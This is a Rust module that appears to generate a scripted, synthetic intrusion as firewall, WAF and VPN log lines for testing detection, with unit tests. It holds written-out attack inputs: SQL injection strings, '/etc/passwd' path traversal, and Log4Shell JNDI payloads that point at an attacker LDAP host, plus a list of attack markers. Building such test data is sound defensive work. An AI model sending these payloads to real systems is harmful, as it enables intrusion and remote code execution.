//! The scripted intrusion; the table is on the page of [`crate::traffic`].
//!
//! In: a start and a seed; then the time, as it passes. Out: the lines whose time has come, each dated when
//! it happens, not when it is asked for. The seed changes ports and ids, never what the table promises.

use crate::traffic::Kind;
use crate::traffic::aws_waf;
use crate::traffic::cisco_asa;
use crate::traffic::fortigate;
use crate::traffic::palo_alto;
use crate::traffic::random::Random;
use crate::traffic::stamp::Stamp;
use crate::traffic::world::ephemeral_port;

const ATTACKER: &str = "198.51.100.23";
const COUNTRY_CODE: &str = "NL";
const COUNTRY_NAME: &str = "Netherlands";

/// The web server that is probed, as the Internet sees it.
const TARGET: &str = "203.0.113.10";

/// The host inside that the attacker controls in the end.
const VICTIM: &str = "10.20.30.40";

/// The attacker's address in the VPN.
const TUNNEL: &str = "10.212.134.200";

/// The account whose password is guessed.
const ACCOUNT: &str = "svc-backup";

const TLS_IDENTITY: &str =
    "encrypted-tunnel,networking,browser-based,4,\"used-by-malware,able-to-transfer-file,has-known-vulnerability,pervasive-use\",";

/// The dice and the instant of a line.
struct Moment<'a> {
    stamp: &'a Stamp,
    random: &'a mut Random,
    /// Which line of its scene it is, from 0.
    number: u64,
}

/// One row of the table.
struct Scene {
    name: &'static str,
    technique: &'static str,
    kind: Kind,
    at_ms: i64,
    every_ms: i64,
    lines: u64,
    render: fn(&mut Moment<'_>, &mut Vec<u8>),
}

const fn scene(
    name: &'static str,
    technique: &'static str,
    kind: Kind,
    (at_ms, every_ms, lines): (i64, i64, u64),
    render: fn(&mut Moment<'_>, &mut Vec<u8>),
) -> Scene {
    Scene { name, technique, kind, at_ms, every_ms, lines, render }
}

/// The rows of the table, none of them begins before the last has ended.
const STORY: [Scene; 16] = [
    scene("port_scan", "T1595.001", Kind::CiscoAsa, (0, 40, 45), port_scan),
    scene("scan_detected", "T1595.001", Kind::CiscoAsa, (1_900, 0, 1), scan_detected),
    scene("sql_injection", "T1190", Kind::AwsWaf, (2_500, 240, 12), sql_injection),
    scene("path_traversal", "T1190", Kind::AwsWaf, (5_400, 150, 4), path_traversal),
    scene("log4shell", "T1190", Kind::AwsWaf, (6_000, 150, 6), log4shell),
    scene("log4j_ips", "T1190", Kind::Fortigate, (7_000, 200, 3), log4j_ips),
    scene("vpn_brute_force", "T1110.001", Kind::Fortigate, (8_000, 150, 24), vpn_brute_force),
    scene("vpn_login", "T1078", Kind::Fortigate, (11_700, 0, 1), vpn_login),
    scene("command_and_control", "T1071.001", Kind::PaloAlto, (13_000, 700, 3), command_and_control),
    scene("admin_guess", "T1110.001", Kind::Fortigate, (15_200, 250, 2), admin_guess),
    scene("admin_login", "T1078", Kind::Fortigate, (15_800, 0, 1), admin_login),
    scene("new_admin", "T1136.001", Kind::Fortigate, (16_300, 0, 1), new_admin),
    scene("exfiltration", "T1041", Kind::PaloAlto, (17_000, 0, 1), exfiltration),
    scene("fortigate_logging_off", "T1685", Kind::Fortigate, (18_500, 0, 1), fortigate_logging_off),
    scene("asa_logging_off", "T1685", Kind::CiscoAsa, (18_900, 0, 1), asa_logging_off),
    scene("palo_alto_logging_off", "T1685", Kind::PaloAlto, (19_300, 0, 1), palo_alto_logging_off),
];

const fn count_lines() -> u64 {
    let (mut lines, mut scene) = (0, 0);
    while scene < STORY.len() {
        lines += STORY[scene].lines;
        scene += 1;
    }
    lines
}

/// A scripted intrusion, to be mixed into benign traffic.
///
/// ```
/// use hydrant::traffic::Attack;
///
/// let start_ms = 1_795_248_000_000;
/// let mut attack = Attack::new(start_ms, 1);
/// let mut lines = 0;
/// for now_ms in (start_ms..start_ms + Attack::DURATION_MS).step_by(100) {
///     while let Some((_kind, _line)) = attack.step(now_ms) {
///         lines += 1;
///     }
/// }
/// assert_eq!(lines, Attack::LINES);
/// ```
#[derive(Clone, Debug)]
pub struct Attack {
    start_ms: i64,
    random: Random,
    stamp: Stamp,
    scene: usize,
    number: u64,
    told: Option<usize>,
    line: Vec<u8>,
}

impl Attack {
    /// Where all of it comes from.
    pub const ADDRESS: &'static str = ATTACKER;

    /// Lines of the whole intrusion.
    pub const LINES: u64 = count_lines();

    /// All of it happens within this time from the start.
    pub const DURATION_MS: i64 = 20_000;

    /// An intrusion that begins at `start_ms` (milliseconds since 1970).
    pub fn new(start_ms: i64, seed: u64) -> Self {
        Self { start_ms, random: Random::new(seed, 0), stamp: Stamp::new(start_ms), scene: 0, number: 0, told: None, line: Vec::new() }
    }

    /// The next line, if its time has come at `at_ms`; `None` if it has not, or if all is told. Ask until it
    /// is `None`: several lines may be due.
    pub fn step(&mut self, at_ms: i64) -> Option<(Kind, &[u8])> {
        let scene = STORY.get(self.scene)?;
        let offset_ms = scene.at_ms + scene.every_ms * self.number as i64;
        let due_ms = self.start_ms.saturating_add(offset_ms);
        if due_ms > at_ms {
            return None;
        }
        self.stamp.set(due_ms);
        self.line.clear();
        let mut moment = Moment { stamp: &self.stamp, random: &mut self.random, number: self.number };
        (scene.render)(&mut moment, &mut self.line);
        self.told = Some(self.scene);
        self.number += 1;
        if self.number == scene.lines {
            self.scene += 1;
            self.number = 0;
        }
        Some((scene.kind, &self.line))
    }

    /// The scene and the ATT&CK technique of the line that [`Attack::step`] gave last.
    pub fn scene(&self) -> Option<(&'static str, &'static str)> {
        self.told.and_then(|scene| STORY.get(scene)).map(|scene| (scene.name, scene.technique))
    }
}

/// Ports that a scan tries, the well-known ones first.
const SCANNED_PORTS: [u64; 45] = [
    21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 135, 139, 143, 161, 389, 443, 445, 465, 514, 587, 636, 873, 993, 995, 1080, 1433, 1521, 1723,
    2049, 2375, 3128, 3306, 3389, 4443, 5432, 5601, 5900, 5985, 6379, 8000, 8080, 8443, 9200, 11211, 27017,
];

fn port_scan(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let deny = cisco_asa::Deny {
        device: 1,
        source: ATTACKER,
        source_port: ephemeral_port(moment.random),
        destination: TARGET,
        destination_port: SCANNED_PORTS[moment.number as usize % SCANNED_PORTS.len()],
        entry: 0x8ed6_6b60,
    };
    cisco_asa::deny(moment.stamp, &deny, out);
}

fn scan_detected(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    cisco_asa::attacking_host(moment.stamp, 1, ATTACKER, 45, out);
}

/// A request of the attacker that nothing has been decided about.
fn probe<'a>(moment: &mut Moment<'_>, user_agent: &'a str, uri: &'a [u8], args: &'a [u8], headers: &'a [u8]) -> aws_waf::Request<'a> {
    aws_waf::Request {
        acl: 0,
        client: ATTACKER,
        country: COUNTRY_CODE,
        method: "GET",
        host: "www.example.com",
        uri,
        args,
        user_agent,
        headers,
        verdict: aws_waf::Verdict::Allow,
        counted: None,
        salt: moment.random.bits(),
    }
}

const SQLMAP: &str = "sqlmap/1.8.4#stable (https://sqlmap.org)";

fn sql_injection(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let mut headers = Vec::new();
    let mut request = if moment.number % 3 == 2 {
        aws_waf::header("Cookie", "session=1' OR 1=1-- -", &mut headers);
        probe(moment, SQLMAP, b"/products", b"id=1", &headers)
    } else if moment.number % 3 == 1 {
        probe(moment, SQLMAP, b"/products", b"id=1'+OR+1=1--+-", b"")
    } else {
        probe(moment, SQLMAP, b"/products", b"id=1%27%20OR%201%3D1--%20-", b"")
    };
    if moment.number % 3 == 2 {
        request.counted = Some(aws_waf::SQLI_COOKIE);
    } else {
        request.verdict = aws_waf::Verdict::Block(aws_waf::SQLI_QUERY);
    }
    aws_waf::render(moment.stamp, &request, out);
}

fn path_traversal(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0";
    let mut request = if moment.number.is_multiple_of(2) {
        probe(moment, agent, b"/static/../../../../etc/passwd", b"", b"")
    } else {
        probe(moment, agent, b"/download", b"file=../../../../etc/passwd", b"")
    };
    let rule = if moment.number.is_multiple_of(2) { aws_waf::LFI_PATH } else { aws_waf::LFI_QUERY };
    request.verdict = aws_waf::Verdict::Block(rule);
    aws_waf::render(moment.stamp, &request, out);
}

fn log4shell(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let mut headers = Vec::new();
    let agent = if moment.number.is_multiple_of(2) {
        "${jndi:ldap://198.51.100.23:1389/a}"
    } else {
        aws_waf::header("X-Api-Version", "${${lower:j}ndi:ldap://198.51.100.23:1389/a}", &mut headers);
        "curl/8.4.0"
    };
    let mut request = probe(moment, agent, b"/api/v1/login", b"", &headers);
    if moment.number < 4 {
        request.verdict = aws_waf::Verdict::Block(aws_waf::LOG4J_HEADER);
    } else {
        request.counted = Some(aws_waf::LOG4J_HEADER);
    }
    aws_waf::render(moment.stamp, &request, out);
}

fn log4j_ips(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let ips = fortigate::Ips {
        device: 1,
        source: ATTACKER,
        country: COUNTRY_NAME,
        source_port: ephemeral_port(moment.random),
        destination: "10.20.30.10",
        attack: "Apache.Log4j.Error.Log.Remote.Code.Execution",
        attack_id: 51_006,
        severity: "critical",
        action: if moment.number < 2 { "dropped" } else { "detected" },
        url: b"/api/v1/login",
        session: moment.random.bits() >> 33,
    };
    fortigate::ips(moment.stamp, &ips, out);
}

fn vpn_brute_force(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let login = fortigate::VpnLogin { device: 1, remote: ATTACKER, user: ACCOUNT, tunnel: None, tunnel_id: 0 };
    fortigate::vpn_login(moment.stamp, &login, out);
}

fn vpn_login(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let tunnel_id = moment.random.bits() >> 33;
    let login = fortigate::VpnLogin { device: 1, remote: ATTACKER, user: ACCOUNT, tunnel: Some(TUNNEL), tunnel_id };
    fortigate::vpn_login(moment.stamp, &login, out);
}

/// The victim's session with the attacker.
fn session<'a>(moment: &mut Moment<'_>, action: &'a str) -> palo_alto::Session<'a> {
    palo_alto::Session {
        device: 1,
        source: VICTIM,
        destination: ATTACKER,
        country: COUNTRY_NAME,
        rule: "Allow-Outbound-Web",
        user: ACCOUNT,
        application: "ssl",
        application_identity: TLS_IDENTITY,
        id: moment.random.between(1, 4_194_303),
        source_port: ephemeral_port(moment.random),
        destination_port: 443,
        udp: false,
        action,
        sequence: 7_100_000_000_000_000_000 + moment.random.below(1 << 40),
    }
}

fn command_and_control(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let session = session(moment, "alert");
    let threat = palo_alto::Threat {
        subtype: "spyware",
        url: b"198.51.100.23/updates",
        id: "Cobalt Strike Beacon Command and Control Traffic Detection(86172)",
        category: "command-and-control",
        severity: "critical",
        direction: "client-to-server",
        user_agent: "",
        threat_category: "command-and-control",
    };
    palo_alto::threat(moment.stamp, &session, &threat, out);
}

fn admin_guess(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let login = fortigate::AdminLogin { device: 1, source: ATTACKER, user: "admin", success: false };
    fortigate::admin_login(moment.stamp, &login, out);
}

fn admin_login(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let login = fortigate::AdminLogin { device: 1, source: ATTACKER, user: "admin", success: true };
    fortigate::admin_login(moment.stamp, &login, out);
}

/// A change that the attacker makes on the FortiGate.
fn change(
    action: &'static str,
    path: &'static str,
    object: Option<&'static str>,
    attributes: &'static str,
) -> fortigate::ConfigChange<'static> {
    fortigate::ConfigChange { device: 1, source: ATTACKER, user: "admin", action, path, object, attributes }
}

fn new_admin(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let change = change("Add", "system.admin", Some("support"), "accprofile[super_admin]vdom[root]password[*]");
    fortigate::config_change(moment.stamp, &change, out);
}

fn exfiltration(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let session = session(moment, "allow");
    let volume = palo_alto::Volume {
        subtype: "end",
        bytes_sent: 4_831_838_208,
        bytes_received: 38_797_312,
        elapsed_s: 312,
        category: "unknown",
        end_reason: "tcp-fin",
    };
    palo_alto::traffic(moment.stamp, &session, &volume, out);
}

fn fortigate_logging_off(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let change = change("Edit", "log.syslogd.setting", None, "status[enable->disable]");
    fortigate::config_change(moment.stamp, &change, out);
}

fn asa_logging_off(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    cisco_asa::command(moment.stamp, 1, "enable_15", TUNNEL, "no logging enable", out);
}

fn palo_alto_logging_off(moment: &mut Moment<'_>, out: &mut Vec<u8>) {
    let change = palo_alto::ConfigChange {
        device: 1,
        host: TUNNEL,
        command: "delete",
        admin: "admin",
        path: "shared log-settings syslog siem-fwd",
        before: "siem-fwd { server { siem { transport TCP; port 5514; } } }",
        sequence: 7_200_000_000_000_000_000 + moment.random.below(1 << 40),
    };
    palo_alto::config(moment.stamp, &change, out);
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use serde_json::Value;

    use crate::traffic::attack::STORY;
    use crate::traffic::{Attack, Kind, Traffic, csv_columns, key_values};

    const START_MS: i64 = 1_795_248_000_000;

    /// Every line with its kind and the name of its scene.
    fn told(seed: u64) -> Vec<(Kind, &'static str, String)> {
        let mut attack = Attack::new(START_MS, seed);
        assert_eq!(attack.scene(), None);
        let mut lines = Vec::new();
        for scene in &STORY {
            for _ in 0..scene.lines {
                let (kind, line) = attack.step(START_MS + Attack::DURATION_MS).unwrap();
                let line = String::from_utf8(line.to_vec()).unwrap();
                assert_eq!(attack.scene(), Some((scene.name, scene.technique)));
                lines.push((kind, scene.name, line));
            }
        }
        assert!(attack.step(i64::MAX).is_none(), "all is told");
        lines
    }

    fn of_scene(name: &str) -> Vec<String> {
        let lines: Vec<_> = told(1).into_iter().filter(|line| line.1 == name).map(|line| line.2).collect();
        assert!(!lines.is_empty(), "{name}");
        lines
    }

    #[test]
    fn lines_come_in_the_order_of_the_story_and_not_before_their_time() {
        let mut attack = Attack::new(START_MS, 3);
        assert!(attack.step(START_MS - 1).is_none());
        let mut kinds = Vec::new();
        for now_ms in START_MS..START_MS + Attack::DURATION_MS {
            while let Some((kind, line)) = attack.step(now_ms) {
                let millisecond = format!("\"timestamp\":{now_ms},");
                assert!(kind != Kind::AwsWaf || String::from_utf8_lossy(line).contains(&millisecond), "dated when it happens");
                kinds.push(kind);
            }
        }
        assert_eq!(kinds.len() as u64, Attack::LINES);
        assert_eq!(kinds, told(3).into_iter().map(|line| line.0).collect::<Vec<_>>());
        assert_eq!(kinds.iter().collect::<HashSet<_>>().len(), 4, "all four products");
        for pair in STORY.windows(2) {
            assert!(pair[0].at_ms + pair[0].every_ms * (pair[0].lines as i64 - 1) < pair[1].at_ms, "{}", pair[1].name);
        }
    }

    #[test]
    fn the_table_of_the_module_page_is_the_story() {
        let page = include_str!("../traffic.rs");
        for scene in &STORY {
            let seconds = scene.at_ms as f64 / 1000.0;
            let row = format!("//! | {seconds:.1} | {} | {} | {} | {} | ", scene.name, scene.kind, scene.lines, scene.technique);
            assert!(page.contains(&row), "the page lacks the row {row}");
        }
        assert_eq!(page.matches("//! | ").count(), STORY.len() + 1, "a row for each scene and the heading");
    }

    #[test]
    fn every_line_parses_as_its_product() {
        for (kind, scene, line) in told(5) {
            match kind {
                Kind::AwsWaf => {
                    let log: Value = serde_json::from_str(&line).unwrap();
                    assert_eq!(log["httpRequest"]["clientIp"], Attack::ADDRESS, "{scene}");
                }
                Kind::Fortigate => {
                    let pairs = key_values(&line[line.find("date=").unwrap()..]);
                    assert_eq!(pairs["devname"], "FGT-01", "{scene}");
                }
                Kind::PaloAlto => {
                    let columns = csv_columns(line.split_once(" - - - - ").unwrap().1);
                    let expected = [("TRAFFIC", 115), ("THREAT", 121), ("CONFIG", 28)].into_iter().find(|row| row.0 == columns[3]);
                    assert_eq!(columns.len(), expected.unwrap().1, "{scene}");
                }
                _ => assert!(line.contains(" asa-01 : %ASA-"), "{scene}: {line}"),
            }
        }
    }

    #[test]
    fn the_scan_tries_a_different_port_each_time() {
        let ports: HashSet<_> = of_scene("port_scan").iter().map(|line| line.split(TARGET_PORT).nth(1).unwrap().to_owned()).collect();
        assert_eq!(ports.len(), 45);
    }

    const TARGET_PORT: &str = "dst inside:203.0.113.10/";

    #[test]
    fn waf_probes_carry_what_the_table_says() {
        let probes = |scene: &str| of_scene(scene).iter().map(|line| serde_json::from_str(line).unwrap()).collect::<Vec<Value>>();
        let header = |log: &Value, name: &str| {
            let headers = log["httpRequest"]["headers"].as_array().unwrap().clone();
            headers.into_iter().find(|header| header["name"] == name).map(|header| header["value"].as_str().unwrap().to_owned())
        };
        let counted = |log: &Value, rule: &str| {
            let groups = log["ruleGroupList"].as_array().unwrap().clone();
            log["action"] == "ALLOW"
                && groups.iter().any(|group| {
                    group["nonTerminatingMatchingRules"][0]["ruleId"] == rule
                        && group["nonTerminatingMatchingRules"][0]["action"] == "COUNT"
                })
        };
        let injections = probes("sql_injection");
        assert!(injections.iter().all(|log| header(log, "User-Agent").unwrap().starts_with("sqlmap/")));
        assert_eq!(injections.iter().filter(|log| counted(log, "SQLi_COOKIE")).count(), 4);
        assert!(injections.iter().filter_map(|log| header(log, "Cookie")).all(|cookie| cookie.contains("' OR 1=1")));
        assert_eq!(injections.iter().filter(|log| log["action"] == "BLOCK").count(), 8);
        let shells = probes("log4shell");
        assert_eq!(shells.iter().filter(|log| header(log, "User-Agent").unwrap().starts_with("${jndi:ldap://")).count(), 3);
        assert_eq!(shells.iter().filter(|log| counted(log, "Log4JRCE_HEADER")).count(), 2);
        let traversals = probes("path_traversal");
        assert!(traversals.iter().all(|log| log["httpRequest"].to_string().contains("../../../../etc/passwd")));
    }

    #[test]
    fn firewall_scenes_carry_what_the_table_says() {
        let pairs = |scene: &str| key_values(&of_scene(scene)[0][of_scene(scene)[0].find("date=").unwrap()..]);
        let brute_force = pairs("vpn_brute_force");
        assert_eq!((brute_force["action"].as_str(), brute_force["user"].as_str()), ("ssl-login-fail", "svc-backup"));
        assert_eq!(pairs("vpn_login")["tunnelip"], "10.212.134.200");
        assert_eq!(pairs("log4j_ips")["attackid"], "51006");
        assert_eq!(pairs("admin_login")["ui"], "https(198.51.100.23)");
        assert_eq!(pairs("new_admin")["cfgpath"], "system.admin");
        assert_eq!(pairs("fortigate_logging_off")["cfgattr"], "status[enable->disable]");
        let columns = |scene: &str| csv_columns(of_scene(scene)[0].split_once(" - - - - ").unwrap().1);
        assert_eq!(columns("exfiltration")[32], "4831838208");
        let beacon = columns("command_and_control");
        assert_eq!((beacon[4].as_str(), beacon[8].as_str(), beacon[34].as_str()), ("spyware", "198.51.100.23", "critical"));
        assert_eq!(columns("palo_alto_logging_off")[9..=13].join(" "), "delete admin Web Succeeded shared log-settings syslog siem-fwd");
        assert!(
            of_scene("asa_logging_off")[0]
                .ends_with("%ASA-5-111010: User 'enable_15', running 'CLI' from IP 10.212.134.200, executed 'no logging enable'")
        );
    }

    #[test]
    fn benign_traffic_has_no_mark_of_the_attack() {
        let marks = [
            "198.51.100.",
            "10.212.134.200",
            "svc-backup",
            "sqlmap",
            "jndi",
            "ndi:",
            "OR 1=1",
            "OR%201",
            "'+OR+",
            "SQLi_",
            "GenericLFI",
            "Log4J",
            "Log4j",
            "../",
            "733101",
            "critical",
            "ommand and Control",
            "command-and-control",
            "0100032001",
            "0100032002",
            "cfgpath",
            "111010",
            ",CONFIG,",
            "10.20.30.40,",
        ];
        let attack: String = told(2).into_iter().map(|line| line.2).collect();
        for mark in marks {
            assert!(attack.contains(mark), "{mark} is no mark of the attack");
        }
        let mut line = Vec::new();
        for kind in Kind::ALL {
            let mut traffic = Traffic::new(kind, 11);
            for number in 0..3_000 {
                line.clear();
                traffic.next(START_MS + number, &mut line);
                let text = std::str::from_utf8(&line).unwrap();
                assert!(!marks.iter().any(|mark| text.contains(mark)), "{kind}: {text}");
            }
        }
    }
}
